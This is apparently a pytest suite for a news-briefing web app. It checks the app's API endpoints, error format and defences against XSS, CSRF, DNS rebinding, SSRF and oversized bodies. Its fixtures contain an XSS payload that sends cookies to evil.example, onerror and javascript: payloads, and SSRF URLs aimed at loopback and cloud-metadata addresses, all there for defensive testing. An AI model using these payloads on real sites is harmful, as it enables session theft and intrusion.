"""The web app and HTTP API through an in-process client: every endpoint, its errors, and its guards.

The store is the bundled example ingested for real; attacks are written as they would arrive (script
in titles, texts and URLs; cross-site forms; a rebinding Host; oversized and chunked bodies).
"""

from __future__ import annotations

import hashlib
import json
import re
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from fastapi.testclient import TestClient

from newsweave.config import Options, ServeOptions
from newsweave.errors import OptionsError
from newsweave.store import open_store
from newsweave.store.ingest import ingest_paths
from newsweave.web import create_app
from newsweave.web.common import page
from newsweave.web.service import Service

SCHEMA = json.loads((Path(__file__).resolve().parents[2] / "shared" / "briefing.schema.json").read_text())
ATTACK_TITLE = '<script>alert("title")</script>"><img src=x onerror=alert(1)>'
ATTACK_TEXT = (
    "Officials in <b>Springfield</b> said on Monday that 40 people were evacuated after the river flooded. "
    '<script>document.location="https://evil.example/?c="+document.cookie</script> '
    "The mayor, Jane Quimby, said the water had reached the town hall. <img src=x onerror=alert(2)> "
    "Emergency services said the evacuation would continue until Wednesday, when the river is expected to fall. "
) * 3


def _options(**kw: Any) -> ServeOptions:
    return ServeOptions(**{"allowed_hosts": ("testserver",), **kw})


@pytest.fixture(scope="module")
def store_path(tmp_path_factory: pytest.TempPathFactory, example_dir: Path) -> Path:
    path = tmp_path_factory.mktemp("web") / "store.db"
    with open_store(path) as store:
        ingest_paths(store, [example_dir])
    return path


@pytest.fixture(scope="module")
def client(store_path: Path) -> Iterator[TestClient]:
    with TestClient(create_app(str(store_path), options=_options())) as c:
        yield c


@pytest.fixture
def fresh(tmp_path: Path, example_dir: Path) -> Iterator[TestClient]:
    """A client over a store of its own (for tests that write)."""
    path = tmp_path / "fresh.db"
    with open_store(path) as store:
        ingest_paths(store, [example_dir])
    with TestClient(create_app(str(path), options=_options(max_articles=5, max_request_bytes=200_000))) as c:
        yield c


def _story(client: TestClient) -> str:
    stories = client.get("/api/v1/stories").json()["stories"]
    return max(stories, key=lambda s: s["articles"])["id"]


def _assert_error(response: Any, status: int, code: str) -> dict[str, Any]:
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith("application/json")
    body = response.json()
    assert set(body) == {"error"}
    error = body["error"]
    assert set(error) == {"code", "type", "message", "source", "status"}
    assert error["code"] == code and error["status"] == status and error["message"]
    return error


# -- reading -----------------------------------------------------------------------------------------


def test_health_reports_the_store(client: TestClient) -> None:
    body = client.get("/api/v1/health").json()
    assert body["status"] == "ok"
    assert body["store"]["articles"] == 5


def test_stories_list_the_example_with_counts(client: TestClient) -> None:
    body = client.get("/api/v1/stories").json()
    assert body["total"] == 1 and body["offset"] == 0 and body["next"] is None
    (story,) = body["stories"]
    assert story["articles"] == 5
    assert story["sources"] == 4  # two of the five copy the same wire text
    assert story["first_date"] == "2022-11-25"


def test_search_matches_words_of_the_articles_texts_and_nothing_else(client: TestClient) -> None:
    assert client.get("/api/v1/stories", params={"q": "Vedomosti PUTIN"}).json()["total"] == 1
    assert client.get("/api/v1/stories", params={"q": "Putin zanzibar"}).json()["total"] == 0
    assert client.get("/api/v1/stories", params={"q": "100%_"}).json()["total"] == 0  # LIKE wildcards are literal


def test_pagination_gives_a_next_link_until_the_last_page(fresh: TestClient) -> None:
    fresh.post("/api/v1/articles", json={"articles": [{"text": ATTACK_TEXT, "title": "Flood in Springfield"}]})
    first = fresh.get("/api/v1/stories", params={"limit": 1}).json()
    assert first["total"] == 2 and len(first["stories"]) == 1
    second = fresh.get(first["next"]).json()
    assert second["offset"] == 1 and second["next"] is None
    assert {first["stories"][0]["id"], second["stories"][0]["id"]} == {
        s["id"] for s in fresh.get("/api/v1/stories").json()["stories"]
    }


def test_page_size_is_capped(client: TestClient) -> None:
    assert client.get("/api/v1/stories", params={"limit": 10_000}).json()["limit"] == ServeOptions.max_page_size


def test_story_lists_its_articles(client: TestClient) -> None:
    body = client.get(f"/api/v1/stories/{_story(client)}").json()
    assert body["story"]["articles"] == len(body["articles"]) == 5
    assert all(a["words"] > 50 for a in body["articles"])


def test_briefing_json_follows_the_schema_and_is_cached(client: TestClient, store_path: Path) -> None:
    sid = _story(client)
    first = client.get(f"/api/v1/stories/{sid}/briefing")
    assert first.status_code == 200
    jsonschema.validate(first.json(), SCHEMA)
    assert len(first.json()["articles"]) == 5
    with open_store(store_path) as store:
        written = store.counts()["briefings"]
    again = client.get(f"/api/v1/stories/{sid}/briefing")
    assert again.json() == first.json()
    with open_store(store_path) as store:
        assert store.counts()["briefings"] == written  # served from the cache, not rebuilt
        saved = store.last_briefing(sid)
    assert saved is not None and sorted(saved.articles) == sorted(a["id"] for a in first.json()["articles"])


def test_rebuilding_a_briefing_is_a_write_and_keeps_one_history_row_per_article_set(
    store_path: Path, client: TestClient
) -> None:
    token = "another-token-long-enough"
    with TestClient(create_app(str(store_path), options=_options(token=token))) as c:
        sid = _story(c)
        _assert_error(c.post(f"/api/v1/stories/{sid}/briefing"), 401, "NW502")
        first = c.get(f"/api/v1/stories/{sid}/briefing").json()
        with open_store(store_path) as store:
            rows = store.counts()["briefings"]
        again = c.post(f"/api/v1/stories/{sid}/briefing", headers={"authorization": f"Bearer {token}"})
        assert again.status_code == 200
        assert again.json()["summary"] == first["summary"]
        with open_store(store_path) as store:
            assert store.counts()["briefings"] == rows  # same articles: the history is not repeated


def test_briefing_as_markdown_and_html(client: TestClient) -> None:
    sid = _story(client)
    md = client.get(f"/api/v1/stories/{sid}/briefing", params={"format": "markdown"})
    assert md.headers["content-type"].startswith("text/markdown")
    assert md.text.startswith("# ")
    html = client.get(f"/api/v1/stories/{sid}/briefing", params={"format": "html"})
    assert html.headers["content-type"].startswith("text/html")
    _assert_csp_matches_styles(html)


def test_a_story_that_gains_an_article_gets_a_new_briefing(fresh: TestClient) -> None:
    sid = _story(fresh)
    before = fresh.get(f"/api/v1/stories/{sid}/briefing").json()
    seed = fresh.get(f"/api/v1/articles/{before['articles'][0]['id']}").json()
    extra = seed["text"] + "\n\nThe Kremlin said on Saturday that the meeting had lasted two hours."
    posted = fresh.post("/api/v1/articles", json={"articles": [{"text": extra, "title": seed["title"]}]}).json()
    assert posted["stored"] == 1 and posted["stories"] == [sid]
    after = fresh.get(f"/api/v1/stories/{sid}/briefing").json()
    assert len(after["articles"]) == len(before["articles"]) + 1
    since = fresh.get(f"/api/v1/stories/{sid}/briefing", params={"since": "true"}).json()["since"]
    assert since["previous"] and since["articles_added"] == posted["articles"]
    page = fresh.get(f"/stories/{sid}").text
    changes = page.split('<section id="changes">', 1)[1].split("</section>", 1)[0]
    assert "New articles (1)" in changes
    assert '<a href="#changes">Changes</a>' in page


def test_article_has_cleaned_text_removed_pieces_and_raw_bytes(client: TestClient) -> None:
    sid = _story(client)
    aid = client.get(f"/api/v1/stories/{sid}").json()["articles"][0]["id"]
    art = client.get(f"/api/v1/articles/{aid}").json()
    assert art["story"] == sid and len(art["text"]) > 500
    assert art["removed"] and {"text", "reason", "detail"} <= set(art["removed"][0])
    raw = client.get(f"/api/v1/articles/{aid}/raw")
    assert raw.headers["content-type"] == "application/octet-stream"
    assert raw.headers["content-disposition"].startswith("attachment")
    assert hashlib.sha256(raw.content).hexdigest() == art["sha256"] == raw.headers["x-newsweave-sha256"]


# -- writing -----------------------------------------------------------------------------------------


def test_posting_articles_stores_them_once(fresh: TestClient) -> None:
    record = {"text": ATTACK_TEXT, "title": "Flood in Springfield", "published": "2024-03-04", "outlet": "Gazette"}
    first = fresh.post("/api/v1/articles", json={"articles": [record, {"title": "no body"}]}).json()
    assert first["stored"] == 1 and len(first["stories"]) == 1
    assert [(r["source"], r["reason"]) for r in first["rejected"]] == [("request#2", "invalid_jsonl")]
    again = fresh.post("/api/v1/articles", json={"articles": [record]}).json()
    assert again["stored"] == 0 and again["duplicates"] == 1
    assert again["store"]["articles"] == 6


def test_posted_urls_to_the_servers_own_network_are_refused(fresh: TestClient) -> None:
    body = fresh.post(
        "/api/v1/articles", json={"urls": ["http://127.0.0.1:9/admin", "http://169.254.169.254/latest", "ftp://x/y"]}
    ).json()
    assert [r["reason"] for r in body["rejected"]] == ["refused", "refused", "invalid_url"]
    assert body["stored"] == 0


def test_uploaded_files_are_type_checked(fresh: TestClient, example_dir: Path) -> None:
    seed = sorted(example_dir.glob("*.txt"))[0].read_bytes()
    files = [
        ("files", ("flood.txt", ATTACK_TEXT.encode(), "text/plain")),
        ("files", ("page.html", b"<html><body><article><p>" + ATTACK_TEXT.encode() + b"</p></article></body></html>",
                   "text/html")),
        ("files", ("tool.exe", b"MZ\x90\x00", "application/octet-stream")),
        ("files", ("photo.txt", b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "text/plain")),
        ("files", ("seed.txt", seed, "text/plain")),
    ]  # fmt: skip
    body = fresh.post("/api/v1/articles/files", files=files).json()
    reasons = {r["source"]: r["reason"] for r in body["rejected"]}
    assert reasons == {"tool.exe": "unsupported", "photo.txt": "binary"}
    assert body["stored"] == 2  # the text and the page (whose <script> and <img> are not text)
    assert body["duplicates"] == 1  # the seed


def test_brief_endpoint_briefs_without_storing(fresh: TestClient, example_dir: Path) -> None:
    before = fresh.get("/api/v1/health").json()["store"]
    records = [{"text": p.read_text(encoding="utf-8"), "id": p.stem[:3]} for p in sorted(example_dir.glob("*.txt"))]
    response = fresh.post("/api/v1/brief", json={"articles": records})
    assert response.status_code == 200
    jsonschema.validate(response.json(), SCHEMA)
    assert [a["id"] for a in response.json()["articles"]] == ["000", "001", "002", "003", "004"]
    assert fresh.get("/api/v1/health").json()["store"] == before


def test_too_many_articles_in_one_request(fresh: TestClient) -> None:
    records = [{"text": f"Article number {i}. " * 30} for i in range(6)]
    _assert_error(fresh.post("/api/v1/articles", json={"articles": records}), 422, "NW504")
    _assert_error(fresh.post("/api/v1/brief", json={"articles": records}), 422, "NW504")


def test_bodies_over_the_limit_are_refused_declared_or_chunked(fresh: TestClient) -> None:
    big = json.dumps({"articles": [{"text": "x " * 150_000}]})
    _assert_error(fresh.post("/api/v1/articles", content=big, headers={"content-type": "application/json"}),
                  413, "NW501")  # fmt: skip

    def chunks() -> Iterator[bytes]:
        data = big.encode()
        for i in range(0, len(data), 16_384):
            yield data[i : i + 16_384]

    _assert_error(fresh.post("/api/v1/articles", content=chunks(), headers={"content-type": "application/json"}),
                  413, "NW501")  # fmt: skip
    assert fresh.get("/api/v1/health").json()["store"]["articles"] == 5


# -- guards ------------------------------------------------------------------------------------------


def test_token_is_required_for_writes_when_set(store_path: Path) -> None:
    token = "s3cret-token-of-enough-length"
    with TestClient(create_app(str(store_path), options=_options(token=token))) as c:
        body = {"articles": [{"text": "nothing " * 40}]}
        _assert_error(c.post("/api/v1/articles", json=body), 401, "NW502")
        _assert_error(c.post("/api/v1/articles", json=body, headers={"authorization": "Bearer wrong"}), 401, "NW502")
        _assert_error(c.post("/upload", data={"text": "nothing " * 40, "token": "wrong"}), 401, "NW502")
        assert c.get("/api/v1/stories").status_code == 200  # reading needs no token
        ok = c.post("/api/v1/brief", json=body, headers={"authorization": f"Bearer {token}"})
        assert ok.status_code == 422  # past the token: "nothing nothing …" is no article (NoArticles)
        assert ok.json()["error"]["type"] == "NoArticles"


def test_serving_beyond_loopback_needs_a_token() -> None:
    with pytest.raises(OptionsError, match="token"):
        ServeOptions(host="0.0.0.0")
    with pytest.raises(OptionsError, match="16 characters"):
        ServeOptions(host="0.0.0.0", token="short")
    assert not ServeOptions(host="192.168.1.4", token="x" * 20).loopback
    assert ServeOptions(host="::1").loopback and ServeOptions(host="localhost").loopback


def test_a_host_the_server_does_not_answer_to_is_refused(client: TestClient) -> None:
    _assert_error(client.get("/api/v1/stories", headers={"host": "rebind.evil.example"}), 400, "NW508")
    assert client.get("/api/v1/stories", headers={"host": "localhost:8000"}).status_code == 200
    assert client.get("/api/v1/stories", headers={"host": "127.0.0.1:8000"}).status_code == 200


def test_cross_site_posts_are_refused(fresh: TestClient) -> None:
    body = {"articles": [{"text": ATTACK_TEXT}]}
    _assert_error(fresh.post("/api/v1/articles", json=body, headers={"origin": "https://evil.example"}), 403, "NW503")
    _assert_error(fresh.post("/upload", data={"text": ATTACK_TEXT}, headers={"sec-fetch-site": "cross-site"}),
                  403, "NW503")  # fmt: skip
    _assert_error(fresh.post("/api/v1/articles", json=body, headers={"origin": "null"}), 403, "NW503")
    _assert_error(fresh.post("/upload", data={"text": ATTACK_TEXT}, headers={"sec-fetch-site": "same-site"}),
                  403, "NW503")  # fmt: skip
    same = fresh.post("/api/v1/articles", json=body, headers={"origin": "http://testserver"})
    assert same.status_code == 200 and same.json()["stored"] == 1
    # This site's own form, under Referrer-Policy: no-referrer, as chromium sends it
    own = fresh.post("/upload", data={"text": ATTACK_TEXT}, headers={"origin": "null", "sec-fetch-site": "same-origin"})
    assert own.status_code == 200


def _assert_csp_matches_styles(response: Any) -> None:
    csp = response.headers["content-security-policy"]
    assert "script-src" not in csp and "'unsafe-inline'" not in csp and "default-src 'none'" in csp
    styles = re.findall(r"<style>(.*?)</style>", response.text, re.S)
    assert styles
    for css in styles:
        import base64

        digest = base64.b64encode(hashlib.sha256(css.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in csp
    assert "<script" not in response.text.lower()


@pytest.mark.parametrize("path", ["/", "/upload", "/api", "/?q=putin"])
def test_pages_send_a_strict_csp_and_no_script(client: TestClient, path: str) -> None:
    response = client.get(path)
    assert response.status_code == 200
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["x-frame-options"] == "DENY"
    _assert_csp_matches_styles(response)


def test_json_responses_may_load_nothing(client: TestClient) -> None:
    assert client.get("/api/v1/stories").headers["content-security-policy"].startswith("default-src 'none'")


def test_page_csp_hashes_each_style_block() -> None:
    response = page("<style>a{}</style><style>b{}</style>")
    assert response.headers["content-security-policy"].count("'sha256-") == 2


# -- script injection --------------------------------------------------------------------------------


def test_script_in_titles_texts_and_urls_is_shown_as_text(fresh: TestClient) -> None:
    record = {
        "html": f"<html><head><title>{ATTACK_TITLE}</title></head><body><article><h1>{ATTACK_TITLE}</h1><p>"
        + ATTACK_TEXT.replace("<", "&lt;")
        + "</p></article></body></html>",
        "title": ATTACK_TITLE,
        "url": "javascript:alert(document.domain)",
        "outlet": '"><script>alert(3)</script>',
    }
    posted = fresh.post("/api/v1/articles", json={"articles": [record]}).json()
    assert posted["stored"] == 1, posted
    sid, aid = posted["stories"][0], posted["articles"][0]
    pages = [
        fresh.get("/"),
        fresh.get("/", params={"q": "<script>alert(1)</script>"}),
        fresh.get(f"/stories/{sid}"),
        fresh.get(f"/articles/{aid}"),
        fresh.get(f"/api/v1/stories/{sid}/briefing", params={"format": "html"}),
        fresh.get("/nothing-here/<script>alert(1)</script>", headers={"accept": "text/html"}),
    ]
    for response in pages:
        text = response.text.lower()
        assert "<script" not in text, response.url
        assert "<img" not in text, response.url
        assert 'href="javascript:' not in text, response.url
    story_page = fresh.get(f"/stories/{sid}").text
    assert "&lt;script&gt;alert(&quot;title&quot;)&lt;/script&gt;" in story_page
    assert "document.location" in story_page  # the text is shown, as text


def test_upload_page_briefs_pasted_articles(fresh: TestClient, example_dir: Path) -> None:
    texts = [p.read_text(encoding="utf-8") for p in sorted(example_dir.glob("*.txt"))[:3]]
    response = fresh.post("/upload", data={"text": "\n---\n".join(texts), "sentences": "3"})
    assert response.status_code == 200, response.text
    summary = response.text.split('<section id="summary">', 1)[1].split("</section>", 1)[0]
    assert 1 <= summary.count('<span class="sentence">') <= 3
    assert "3 articles" in response.text
    assert "briefing of your upload" in response.text
    _assert_csp_matches_styles(response)
    assert fresh.get("/api/v1/health").json()["store"]["articles"] == 5  # not stored


def test_upload_page_reads_pasted_jsonl_and_files(fresh: TestClient, example_dir: Path) -> None:
    rows = "\n".join(json.dumps({"text": p.read_text(encoding="utf-8"), "id": p.stem[:3]})
                     for p in sorted(example_dir.glob("*.txt"))[:2])  # fmt: skip
    third = sorted(example_dir.glob("*.txt"))[2]
    response = fresh.post(
        "/upload", data={"text": rows}, files=[("files", (third.name, third.read_bytes(), "text/plain"))]
    )
    assert response.status_code == 200
    assert "3 articles" in response.text


def test_upload_page_can_store_and_redirects_to_the_story(fresh: TestClient) -> None:
    response = fresh.post("/upload", data={"text": ATTACK_TEXT, "store": "true"}, follow_redirects=False)
    assert response.status_code == 303 and response.headers["location"].startswith("/stories/")
    assert fresh.get("/api/v1/health").json()["store"]["articles"] == 6


def test_empty_upload_is_an_error_page_for_a_browser(fresh: TestClient) -> None:
    response = fresh.post("/upload", data={"text": "  "}, headers={"accept": "text/html"})
    assert response.status_code == 422
    assert "nothing was pasted" in response.text and response.headers["content-type"].startswith("text/html")


# -- one error shape on every endpoint ---------------------------------------------------------------

BAD_REQUESTS: dict[tuple[str, str], tuple[dict[str, Any], int, str]] = {
    ("GET", "/api/v1/health"): ({"headers": {"host": "evil.example"}}, 400, "NW508"),
    ("GET", "/api/v1/stories"): ({"params": {"limit": 0}}, 422, "NW504"),
    ("GET", "/api/v1/stories/{story_id}"): ({"path": "/api/v1/stories/nope"}, 404, "NW401"),
    ("GET", "/api/v1/stories/{story_id}/briefing"): ({"path": "/api/v1/stories/nope/briefing"}, 404, "NW401"),
    ("POST", "/api/v1/stories/{story_id}/briefing"): ({"path": "/api/v1/stories/nope/briefing"}, 404, "NW401"),
    ("GET", "/api/v1/articles/{article_id}"): ({"path": "/api/v1/articles/nope"}, 404, "NW403"),
    ("GET", "/api/v1/articles/{article_id}/raw"): ({"path": "/api/v1/articles/nope/raw"}, 404, "NW403"),
    ("POST", "/api/v1/articles"): ({"json": {"articles": [{"text": 5}]}}, 422, "NW504"),
    ("POST", "/api/v1/articles/files"): ({"data": {"x": "y"}}, 422, "NW504"),
    ("POST", "/api/v1/brief"): ({"json": {"articles": []}}, 422, "NW102"),
    ("GET", "/api/openapi.json"): ({"headers": {"host": "evil.example"}}, 400, "NW508"),
}


def test_every_api_endpoint_has_a_bad_request_case(client: TestClient) -> None:
    spec = client.get("/api/openapi.json").json()
    routes = {(method.upper(), path) for path, ops in spec["paths"].items() for method in ops}
    assert routes | {("GET", "/api/openapi.json")} == set(BAD_REQUESTS)


@pytest.mark.parametrize("endpoint", sorted(BAD_REQUESTS), ids=lambda e: f"{e[0]} {e[1]}")
def test_every_api_endpoint_answers_errors_in_one_shape(fresh: TestClient, endpoint: tuple[str, str]) -> None:
    kwargs, status, code = BAD_REQUESTS[endpoint]
    kwargs = dict(kwargs)
    path = kwargs.pop("path", endpoint[1])
    _assert_error(fresh.request(endpoint[0], path, **kwargs), status, code)


@pytest.mark.parametrize(
    ("method", "path", "status", "code"),
    [
        ("GET", "/api/v1/nothing", 404, "NW505"),
        ("DELETE", "/api/v1/stories", 405, "NW506"),
        ("GET", "/api/v1/stories/x/briefing?format=pdf", 422, "NW504"),
        ("GET", "/stories/nope", 404, "NW401"),
        ("GET", "/articles/nope", 404, "NW403"),
        ("POST", "/upload", 422, "NW504"),
        ("GET", "/docs", 404, "NW505"),  # no CDN-loading API explorer
    ],
)
def test_other_errors_share_the_shape(client: TestClient, method: str, path: str, status: int, code: str) -> None:
    _assert_error(client.request(method, path), status, code)


def test_openapi_document_and_its_offline_index(client: TestClient) -> None:
    spec = client.get("/api/openapi.json").json()
    assert {"/api/v1/stories", "/api/v1/stories/{story_id}/briefing", "/api/v1/articles"} <= set(spec["paths"])
    index = client.get("/api").text
    assert all(path in index for path in spec["paths"])


# -- the service -------------------------------------------------------------------------------------


def test_concurrent_requests_for_one_briefing_build_it_once(tmp_path: Path, example_dir: Path) -> None:
    path = tmp_path / "s.db"
    with open_store(path) as store:
        ingest_paths(store, [example_dir])
    svc = Service(str(path), options=_options(), brief_options=Options())
    sid = svc.stories()[0][0].id
    results: list[object] = []
    threads = [threading.Thread(target=lambda: results.append(svc.briefing(sid))) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len({id(r) for r in results}) == 1
    with open_store(path) as store:
        assert store.counts()["briefings"] == 1


def test_service_reads_uploads_as_files_are_read() -> None:
    from newsweave.web.pages import pasted

    items = pasted("First article text here.\n---\n<html><body><p>Second</p></body></html>\n---\n  \n")
    assert [getattr(i, "kind", None) for i in items] == ["text", "html"]
    assert pasted("") == []


# -- the serve command -------------------------------------------------------------------------------


def test_serve_refuses_to_listen_beyond_loopback_without_a_token(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from newsweave.cli import app

    result = CliRunner().invoke(app, ["serve", "--db", str(tmp_path / "s.db"), "--host", "0.0.0.0"])
    assert result.exit_code == 2
    assert "needs a token" in result.output
    result = CliRunner().invoke(app, ["serve", "--db", str(tmp_path / "s.db"), "--token-env", "NW_NO_SUCH_VAR"])
    assert result.exit_code == 2 and "NW_NO_SUCH_VAR" in result.output


def test_serve_command_serves_until_interrupted(store_path: Path) -> None:
    import signal
    import socket
    import subprocess
    import sys
    import time

    import httpx

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    proc = subprocess.Popen(
        [sys.executable, "-m", "newsweave", "serve", "--db", str(store_path), "--port", str(port)],
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                health = httpx.get(f"http://127.0.0.1:{port}/api/v1/health", timeout=1)
                break
            except httpx.TransportError:
                assert proc.poll() is None, proc.stderr.read() if proc.stderr else ""
                assert time.monotonic() < deadline, "the server did not start"
                time.sleep(0.1)
        assert health.json()["store"]["articles"] >= 5
    finally:
        proc.send_signal(signal.SIGINT)
        _, stderr = proc.communicate(timeout=30)
    assert proc.returncode == 0
    assert f"on http://127.0.0.1:{port}" in stderr


def test_stories_ingested_by_another_process_are_listed_with_their_sources(tmp_path: Path, example_dir: Path) -> None:
    db = tmp_path / "shared.db"
    with TestClient(create_app(str(db), options=_options())) as c:
        assert c.get("/api/v1/stories").json()["total"] == 0
        with open_store(db) as store:  # `newsweave ingest` beside the server: it leaves sources to count
            ingest_paths(store, [example_dir])
            assert store.stale_stories()
        (story,) = c.get("/api/v1/stories").json()["stories"]
        assert (story["articles"], story["sources"]) == (5, 4)


def test_a_paste_over_the_form_field_limit_is_too_large_with_a_way_out(client: TestClient) -> None:
    text = ("The river flooded the town on Monday, officials said. " * 30 + "\n") * 700  # 1.1 MB
    error = _assert_error(client.post("/upload", data={"text": text}), 413, "NW501")
    assert "as files" in error["message"]
